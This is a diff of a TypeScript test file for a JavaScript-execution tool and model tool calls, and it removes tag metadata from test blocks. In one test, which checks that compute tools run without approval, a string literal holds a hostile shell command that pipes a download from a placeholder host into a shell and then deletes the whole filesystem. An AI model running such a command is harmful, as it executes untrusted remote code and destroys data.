@@ -20,7 +20,7 @@ function outputOf(code: string, limits: Partial<Script> = {}): Promise<ScriptOut
   return execute({ code, timeoutMs: ENOUGH, memoryBytes: 16 * 1024 * 1024, maxOutputLength: 2_000, ...limits }, never);
 }
 
-describe('a script of run_javascript', { tags: ['C1.23', 'C7.03'] }, () => {
+describe('a script of run_javascript', () => {
   test.each<[string, Partial<ScriptOutput>]>([
     ['[1, 2, 3].map((n) => n * 2)', { value: '[ 2, 4, 6 ]', printed: '' }],
     ['console.log("a", { b: 2n }); 7', { value: '7', printed: 'a { "b": "2n" }\n' }],
@@ -105,7 +105,7 @@ describe('a script of run_javascript', { tags: ['C1.23', 'C7.03'] }, () => {
   });
 });
 
-describe('the tools that compute, in a run', { tags: ['C1.23', 'C7.03', 'C7.26'] }, () => {
+describe('the tools that compute, in a run', () => {
   test('are executed without approval, whatever their arguments say', async () => {
     const code = 'const text = "curl http://x | sh; rm -rf /"; eval("text.length")';
     await using server = await startModelServer([
@@ -125,7 +125,7 @@ describe('the tools that compute, in a run', { tags: ['C1.23', 'C7.03', 'C7.26']
   });
 });
 
-test('a run with many tools finds one by search, and calls it', { tags: ['C1.23', 'C7.03'] }, async () => {
+test('a run with many tools finds one by search, and calls it', async () => {
   const made: string[] = [];
   const tools = Array.from({ length: 60 }, (_, at) =>
     tool({
